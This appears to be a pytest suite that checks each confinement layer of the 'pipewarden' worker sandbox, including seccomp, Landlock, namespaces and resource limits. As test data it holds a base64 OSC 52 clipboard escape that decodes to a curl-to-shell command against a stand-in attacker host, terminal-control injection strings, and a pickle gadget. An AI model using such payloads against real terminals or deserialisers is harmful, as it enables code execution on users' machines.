"""Each confinement layer of a real worker, tested by the side effect it must prevent.

Workers are forked from the session's fork server and driven through test-only hooks (trusted
code inside the worker that makes the raw system calls a hostile pipeline's C code could make).
Where a layer reports itself inactive on a machine, the test asserts that the report says so;
where it is active (every layer on the reference machine), the side effect must be absent.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import pickle
import socket
import sys
import time
from contextlib import contextmanager
from pathlib import Path

import pytest

from pipewarden.errors import (
    NotAllowedError,
    PipewardenError,
    PolicyViolation,
    ResourceLimitError,
    WorkerError,
)
from pipewarden.isolation import LAYER_NAMES, WorkerLoadRequest, probe_layers, start_worker_pipeline
from pipewarden.isolation._client import WorkerProcess, fork_server
from pipewarden.limits import Limits


@pytest.fixture(scope="module", autouse=True)
def server():
    return fork_server()


@pytest.fixture(scope="module")
def doctor():
    return {s.name: s for s in probe_layers()}


@contextmanager
def worker(limits: Limits | None = None, *, skip: frozenset[str] = frozenset(), read_paths: tuple[str, ...] = ()):
    w = WorkerProcess(limits or Limits(wall_s=60), read_paths=read_paths, test_hooks=True, skip=skip)
    try:
        yield w
    finally:
        w.close()


def hook(w: WorkerProcess, name: str, arg=None, *, suspend: bool = True) -> dict:
    msg = w.request({"op": "hook", "name": name, "arg": arg, "suspend_tripwire": suspend}, what=f"hook {name}")
    return json.loads(msg.detail) if msg.detail.startswith("{") else {"detail": msg.detail}


def _in_worker(w: WorkerProcess, *parts: str) -> str:
    """A path in the worker's scratch as the worker sees it (its own tmpfs; root reads it here)."""
    return os.path.join(f"/proc/{w.pid}/root", w.scratch.lstrip("/"), *parts)


def _du(top: str) -> int:
    total = 0
    for dirpath, dirnames, filenames in os.walk(top):
        for name in dirnames + filenames:
            total += os.lstat(os.path.join(dirpath, name)).st_blocks * 512
    return total


def active(w: WorkerProcess, name: str) -> bool:
    return {s.name: s.active for s in w.layers}[name]


def _gone(pid: int, timeout: float = 5.0) -> bool:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return True
        # a zombie until the fork server reaps it
        try:
            with open(f"/proc/{pid}/stat") as fh:
                if fh.read().split(") ")[1].startswith("Z"):
                    return True
        except OSError:
            return True
        time.sleep(0.02)
    return False


def _host_still_works(server) -> None:
    assert server.alive()
    with worker() as w:
        assert hook(w, "identity")["pid"] == w.pid


# ------------------------------------------------------------------------------ layer report


def test_worker_reports_every_layer_like_doctor(doctor):
    with worker() as w:
        reported = {s.name: s for s in w.layers}
    assert set(reported) == set(LAYER_NAMES)
    for name, status in reported.items():
        assert status.detail, name
        assert status.active == doctor[name].active, (name, status, doctor[name])


def test_doctor_cli_prints_the_table(capsys, doctor):
    from pipewarden.cli import main

    rc = main(["doctor", "--json"])
    table = json.loads(capsys.readouterr().out)
    assert rc == 0
    assert [row["name"] for row in table] == list(LAYER_NAMES)
    assert all(row["stops"] for row in table)
    rc = main(["doctor", "--strict"])
    out = capsys.readouterr().out
    assert rc == (0 if all(s.active for s in doctor.values()) else 1)
    for name in LAYER_NAMES:
        assert name in out


@pytest.mark.parametrize("skip", ["seccomp", "landlock-fs", "netns", "ipcns", "scratch-fs", "uid", "rlimits", "env"])
def test_a_disabled_layer_is_reported_inactive_and_the_others_still_active(skip, doctor):
    with worker(skip=frozenset({skip})) as w:
        reported = {s.name: s for s in w.layers}
    assert set(reported) == set(LAYER_NAMES)
    off = {skip} | ({"landlock-net", "landlock-scope"} if skip == "landlock-fs" else set())
    for name, status in reported.items():
        if name in off:
            assert not status.active and "disabled" in status.detail
        else:
            assert status.active == doctor[name].active, name


def test_a_required_layer_that_is_missing_refuses_the_load(tmp_path):
    from pipewarden.loader.snapshot import Snapshot

    src = b"x = 1\n"
    import hashlib

    req = WorkerLoadRequest(
        source_bytes=src,
        source_sha256=hashlib.sha256(src).hexdigest(),
        filename="pipeline.py",
        weights=Snapshot(root=tmp_path, source="local", commit=None, files={}),
        required_layers=frozenset({"seccomp"}),
    )
    with pytest.raises(NotAllowedError, match="seccomp"):
        start_worker_pipeline(req, Limits(wall_s=30), _unsafe_skip_layers=("seccomp",))
    with pytest.raises(ValueError, match="unknown isolation layers"):
        start_worker_pipeline(
            WorkerLoadRequest(src, req.source_sha256, "p.py", req.weights, required_layers=frozenset({"magic"})),
        )


# ------------------------------------------------------------------------ layers by effect


def test_environment_is_scrubbed(monkeypatch):
    monkeypatch.setenv("HF_TOKEN", "hf_secret_token")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws_secret")
    with worker() as w:
        env = hook(w, "identity")["env"]
    assert "HF_TOKEN" not in env and "AWS_SECRET_ACCESS_KEY" not in env
    assert "HF_HUB_OFFLINE" in env and "DIFFUSERS_DISABLE_REMOTE_CODE" in env


def test_worker_is_not_root():
    with worker() as w:
        ident = hook(w, "identity")
        if active(w, "uid"):
            assert ident["uid"] != 0 and ident["euid"] != 0
        else:
            assert os.geteuid() != 0  # only inactive where the host itself is not root


def test_fork_is_refused_at_the_c_level(tmp_path):
    with worker() as w:
        marker = os.path.join(w.scratch, "child-ran")
        assert active(w, "seccomp")
        # raw libc fork(), tripwire suspended: only seccomp stands in the way
        with pytest.raises(PolicyViolation, match="EPERM"):
            hook(w, "fork", marker)
        # with the tripwire armed, the Python-level net catches it first
        with pytest.raises(PolicyViolation, match="tripwire"):
            hook(w, "fork", marker, suspend=False)
        time.sleep(0.1)
        assert not os.path.exists(marker) and not os.path.exists(_in_worker(w, "child-ran"))
        assert hook(w, "identity")["pid"] == w.pid  # the worker survived the attempt


def test_sockets_and_exec_are_refused():
    with worker() as w:
        assert active(w, "seccomp")
        res = hook(w, "socket")
        assert res["ret"] == -1 and res["errno"] == errno.EPERM
        assert hook(w, "exec")["errno"] == errno.EPERM


@pytest.mark.parametrize("call", ["unshare", "ptrace", "setuid"])
def test_namespace_ptrace_and_privilege_calls_are_refused(call):
    with worker() as w:
        assert active(w, "seccomp")
        res = hook(w, call)
        assert res["ret"] == -1 and res["errno"] == errno.EPERM
        assert hook(w, "identity")["uid"] != 0 or not active(w, "uid")


def test_no_write_outside_scratch_and_no_read_outside_allowed_paths(tmp_path):
    canary_dir = tmp_path / "canary"
    canary_dir.mkdir()
    os.chmod(canary_dir, 0o777)
    secret = canary_dir / "secret.txt"
    secret.write_text("secret")
    os.chmod(secret, 0o666)
    target = canary_dir / "written.txt"
    with worker() as w:
        assert active(w, "landlock-fs")
        assert hook(w, "write", str(target))["errno"] == errno.EACCES
        assert hook(w, "read", str(secret))["errno"] == errno.EACCES
        assert hook(w, "read", "/etc/passwd")["errno"] == errno.EACCES
        # the scratch dir is writable
        assert hook(w, "write", os.path.join(w.scratch, "ok.txt"))["errno"] == 0
    assert not target.exists()
    assert secret.read_text() == "secret"


@pytest.mark.parametrize(
    ("only", "skip"),
    [
        ("landlock-net", frozenset({"seccomp", "netns"})),
        ("netns", frozenset({"seccomp", "landlock-fs"})),
    ],
)
def test_tcp_to_the_host_is_refused_by_each_network_layer_alone(only, skip):
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    try:
        with worker(skip=skip) as w:
            assert active(w, only)
            res = hook(w, "connect", port)
            assert res["errno"] != 0
        with pytest.raises(BlockingIOError):
            listener.accept()  # nobody connected
    finally:
        listener.close()


def _sysv_table(kind: str) -> list[dict[str, str]]:
    with open(f"/proc/sysvipc/{kind}") as fh:
        head, *rows = fh.read().splitlines()
    return [dict(zip(head.split(), row.split(), strict=False)) for row in rows]


@contextmanager
def _host_segment(data: bytes):
    """A SysV shared memory segment of the host's, readable by every uid (mode 0644)."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    sid = libc.shmget(0, 4096, 0o1000 | 0o644)
    assert sid >= 0, ctypes.get_errno()
    try:
        addr = libc.shmat(sid, None, 0)
        ctypes.memmove(addr, data, len(data))
        libc.shmdt(ctypes.c_void_p(addr))
        yield sid
    finally:
        libc.shmctl(sid, 0, None)  # IPC_RMID


@pytest.mark.parametrize(
    ("only", "skip"),
    [("both", frozenset()), ("ipcns", frozenset({"seccomp"})), ("seccomp", frozenset({"ipcns"}))],
)
def test_sysv_ipc_of_the_host_is_out_of_reach_and_nothing_outlives_the_worker(only, skip):
    """Red team 9 W4: a worker read a host's 0644 segment and left 256 MiB of segments behind."""
    with _host_segment(b"host-shm-secret!") as host_id:
        with worker(skip=skip) as w:
            pid = w.pid
            uid = str(hook(w, "identity")["uid"])
            res = hook(w, "sysv_ipc", host_id)
            assert res["shmat"]["ok"] is False  # the host's segment cannot be attached
            if only != "seccomp":
                assert active(w, "ipcns")
                assert res["ipc_ns"] != os.readlink("/proc/self/ns/ipc")
                assert res["uts_ns"] != os.readlink("/proc/self/ns/uts")
            if only != "ipcns":
                assert active(w, "seccomp")
                assert res["shmat"]["errno"] == errno.EPERM
                assert res["shmget"]["errno"] == errno.EPERM and res["msgget"]["errno"] == errno.EPERM
            else:
                assert res["shmat"]["errno"] == errno.EINVAL  # no such segment in the worker's namespace
                assert res["shmget"]["ret"] >= 0 and res["msgget"]["ret"] >= 0  # created there, not here
            # nothing in the host's tables, while the worker lives or after it
            assert not [seg for seg in _sysv_table("shm") if seg["cpid"] == str(pid)]
            assert not [q for q in _sysv_table("msg") if q["uid"] == uid and uid != "0"]
        assert not [seg for seg in _sysv_table("shm") if seg["cpid"] == str(pid)]
        assert not [q for q in _sysv_table("msg") if q["uid"] == uid and uid != "0"]


def test_file_watches_are_refused():
    """Red team 9 W5: an inotify watch on a host folder showed the worker which files the host read."""
    with worker() as w:
        assert active(w, "seccomp")
        res = hook(w, "watch")
        assert res["inotify_init1"] == {"ret": -1, "errno": errno.EPERM}
        assert res["fanotify_init"] == {"ret": -1, "errno": errno.EPERM}
    with worker(skip=frozenset({"seccomp"})) as w:  # the hook itself works: the layer is what refuses
        assert hook(w, "watch")["inotify_init1"]["errno"] == 0


_OSC52 = "\x1b]52;c;Y3VybCBodHRwczovL2F0dGFja2VyLmludmFsaWQveCB8IHNoCg==\x07"


def test_worker_error_text_reaches_the_host_without_terminal_controls():
    """Red team 9 W3: an error message wrote the host's clipboard (OSC 52) and cleared its screen."""
    hostile = _OSC52 + "\x1b]0;PWNED\x07\x1b[2J\x1b[3J\rpipewarden: finished OK\x9b\u202eevil\tok\nnext"
    with worker() as w:
        with pytest.raises(PipewardenError) as info:
            hook(w, "raise", hostile)
    text = str(info.value)
    for bad in ("\x1b", "\x07", "\r", "\x9b", "\u202e"):
        assert bad not in text and bad not in info.value.what
    # shown, not acted on: the user still sees what the worker sent
    assert "\\x1b]52;c;Y3Vy" in info.value.what and "\\u202eevil\tok\nnext" in info.value.what


# ----------------------------------------------------------------------------- resources


def test_8gib_allocation_ends_in_resource_limit_error(server):
    with worker(Limits(memory_mb=2048, wall_s=60)) as w:
        # wall_s=60 would end it with a wall-clock error instead: the match shows the memory limit did.
        with pytest.raises(ResourceLimitError, match="memory"):
            hook(w, "alloc", 8192)
        assert hook(w, "alloc", 64)["detail"] == str(64 * 1024 * 1024)  # worker still usable
    _host_still_works(server)


def test_file_size_limit_refuses_a_big_write_without_killing_the_worker(server):
    with worker(Limits(file_size_mb=1, wall_s=60)) as w:
        assert hook(w, "write_big", 2)["errno"] == errno.EFBIG
        assert os.path.getsize(_in_worker(w, "big.bin")) <= 1024 * 1024
        assert hook(w, "identity")["pid"] == w.pid


@pytest.mark.slow
def test_cpu_limit_ends_an_infinite_loop(server):
    # What ended the loop is the point, not how fast: the CPU rlimit (the worker died of SIGXCPU,
    # which the host reports as rule limits.cpu). wall_s=60 is only a hang guard; had the CPU
    # limit not fired, the wall clock would have ended the loop as limits.wall-clock instead.
    with worker(Limits(cpu_s=1, wall_s=60)) as w:
        with pytest.raises(ResourceLimitError) as info:
            hook(w, "spin")
        assert info.value.rule == "limits.cpu", str(info.value)
        assert info.value.what == "the isolated pipeline used more than 1 s of CPU during hook spin; the worker was stopped"
        assert "Limits(cpu_s=...)" in info.value.fix
        assert _gone(w.pid)
        with pytest.raises(WorkerError, match="closed"):
            hook(w, "identity")
    _host_still_works(server)


def test_the_worker_cannot_lift_its_own_cpu_limit(server):
    """Red team 9 W6: code in the worker raised its soft RLIMIT_CPU (the hard one was infinite)."""
    with worker(Limits(cpu_s=1, wall_s=120)) as w:
        with pytest.raises(ResourceLimitError) as info:
            hook(w, "uncap_cpu", 6)  # 6 s of CPU after lifting every limit it can
        assert info.value.rule == "limits.cpu"  # the CPU limit, not the 120 s wall clock
    _host_still_works(server)


def test_wall_clock_limit_kills_a_hung_worker(server):
    with worker(Limits(cpu_s=600, wall_s=1.0)) as w:
        with pytest.raises(ResourceLimitError, match="within 1 s") as excinfo:
            hook(w, "spin")
        # What ended the spin is the wall clock (cpu_s=600 would not for ten minutes).
        assert excinfo.value.rule == "limits.wall-clock"
        assert _gone(w.pid)
        with pytest.raises(WorkerError, match="closed"):
            hook(w, "identity")
    _host_still_works(server)


@pytest.mark.slow
def test_deep_recursion_ends_in_pipewarden_error(server):
    with worker() as w:
        with pytest.raises(PipewardenError, match="RecursionError"):
            hook(w, "recurse")
    _host_still_works(server)


def test_a_crashing_worker_is_a_worker_error(server):
    with worker() as w:
        with pytest.raises(WorkerError, match="SIGABRT"):
            hook(w, "abort")
        assert _gone(w.pid)
    _host_still_works(server)


def test_scratch_is_bounded_in_total_and_stays_off_the_host_disk():
    """Red team 9 W1: 40 files of 1 MiB each with file_size_mb=1 all landed on the host's disk."""
    with worker(Limits(file_size_mb=1, scratch_mb=4, wall_s=60)) as w:
        assert active(w, "scratch-fs")
        res = hook(w, "fill", 40)
        assert res["errno"] == errno.ENOSPC and res["written"] <= 4
        assert res["written"] * 1024 * 1024 <= _du(_in_worker(w)) <= 4 * 1024 * 1024
        # the host's scratch dir holds only the log it reads; its mount table is unchanged
        assert sorted(os.listdir(w.scratch)) == [".pipewarden-host", "worker.log"] and _du(w.scratch) < 256 * 1024
        with open("/proc/self/mountinfo") as fh:
            assert w.scratch not in fh.read()
        assert hook(w, "identity")["pid"] == w.pid  # the worker is still usable
    with worker(Limits(file_size_mb=1, wall_s=60), skip=frozenset({"scratch-fs"})) as w:
        # without the layer the same hook writes to the host's disk (what the layer prevents)
        assert not active(w, "scratch-fs")
        assert hook(w, "fill", 3) == {"written": 3, "errno": 0}
        assert _du(w.scratch) >= 3 * 1024 * 1024


def test_a_full_scratch_is_a_resource_limit_error():
    from pipewarden.isolation._worker import _error_header

    header = _error_header(OSError(errno.ENOSPC, "No space left on device"))
    assert (header["error"], header["rule"]) == ("ResourceLimitError", "limits.scratch")
    assert "scratch_mb" in header["fix"]


def test_stale_scratch_dirs_of_gone_hosts_are_removed_and_nothing_else(tmp_path):
    from pipewarden.isolation._client import _SCRATCH_MARKER, _hold_scratch, clean_stale_scratch

    hour_ago = time.time() - 3600
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("keep")
    held: list[int] = []

    def scratch(name: str, *, marker: bool = True, locked: bool = False, old: bool = True) -> Path:
        d = tmp_path / name
        d.mkdir()
        (d / "worker.log").write_text("log")
        if marker:
            fd = _hold_scratch(str(d))
            if old:
                os.utime(d / _SCRATCH_MARKER, (hour_ago, hour_ago))
            if locked:
                held.append(fd)
            else:
                os.close(fd)
        return d

    stale = scratch("pipewarden-worker-stale")
    (stale / "link").symlink_to(outside)  # removed as a link, never followed
    live = scratch("pipewarden-worker-live", locked=True)
    young = scratch("pipewarden-worker-young", old=False)
    foreign = scratch("pipewarden-worker-nomarker", marker=False)
    other = scratch("someone-else", marker=True)
    target = scratch("elsewhere")
    (tmp_path / "pipewarden-worker-link").symlink_to(target)
    try:
        assert clean_stale_scratch(str(tmp_path)) == 1
        assert not stale.exists()
        assert live.is_dir() and young.is_dir() and foreign.is_dir() and other.is_dir()
        assert target.is_dir() and (target / "worker.log").exists() and (tmp_path / "pipewarden-worker-link").is_symlink()
        assert (outside / "keep.txt").read_text() == "keep"
    finally:
        for fd in held:
            os.close(fd)
    # a running worker's dir is held by its host, whatever its age
    with worker() as w:
        os.utime(os.path.join(w.scratch, _SCRATCH_MARKER), (hour_ago, hour_ago))
        clean_stale_scratch(os.path.dirname(w.scratch))
        assert os.path.isdir(w.scratch) and hook(w, "identity")["pid"] == w.pid
    assert not os.path.exists(w.scratch)


# ------------------------------------------------------------------------------ protocol


class _Canary:
    path = ""

    def __reduce__(self):
        return (Path(self.path).touch, ())


def test_garbage_frames_are_a_worker_error_and_nothing_is_unpickled(tmp_path, server):
    canary = tmp_path / "unpickled"
    _Canary.path = str(canary)
    events: list[str] = []
    sys.addaudithook(lambda e, a: events.append(e) if e.startswith("pickle.") else None)
    garbage = pickle.dumps(_Canary()).decode("latin-1")
    with worker() as w:
        with pytest.raises(WorkerError, match="malformed"):
            hook(w, "garbage", garbage)
        assert _gone(w.pid)
    with worker() as w:
        bad_json = "PWF1" + "\x00\x00\x00\x05" + "\x00" * 8 + "{bad}"
        with pytest.raises(WorkerError, match="header"):
            hook(w, "garbage", bad_json)
    assert not canary.exists()
    assert events == []
    _host_still_works(server)


def test_oversize_message_is_a_resource_limit_error(server):
    with worker(Limits(max_message_mb=1, wall_s=30)) as w:
        with pytest.raises(ResourceLimitError, match="max_message_mb"):
            hook(w, "oversize")
        assert _gone(w.pid)
    _host_still_works(server)


@pytest.mark.slow
def test_workers_die_with_a_crashed_host():
    """Host killed hard -> its fork server gets SIGKILL (parent-death signal) -> so do its workers."""
    import subprocess

    script = (
        "import os, sys\n"
        "from pipewarden.limits import Limits\n"
        "from pipewarden.isolation._client import WorkerProcess, fork_server\n"
        "w = WorkerProcess(Limits(), read_paths=())\n"
        "print(w.pid, fork_server()._proc.pid, flush=True)\n"
        "os.kill(os.getpid(), 9)\n"
    )
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert proc.returncode == -9, proc.stderr[-2000:]
    worker_pid, server_pid = (int(x) for x in proc.stdout.split())
    assert _gone(server_pid, timeout=10)
    assert _gone(worker_pid, timeout=10)


def test_worker_holds_only_its_pipes_and_log(tmp_path):
    secret = open(tmp_path / "host-secret", "w")  # noqa: SIM115 - held open on purpose
    sock = socket.socket()
    try:
        with worker() as w:
            fds = hook(w, "identity")["fds"]
        targets = [t for t in fds.values() if t != "?"]  # "?": the fd listdir itself used
        assert len(targets) == 5
        for target in targets:
            assert target == "/dev/null" or target.startswith("pipe:") or target.endswith("/worker.log"), target
    finally:
        secret.close()
        sock.close()
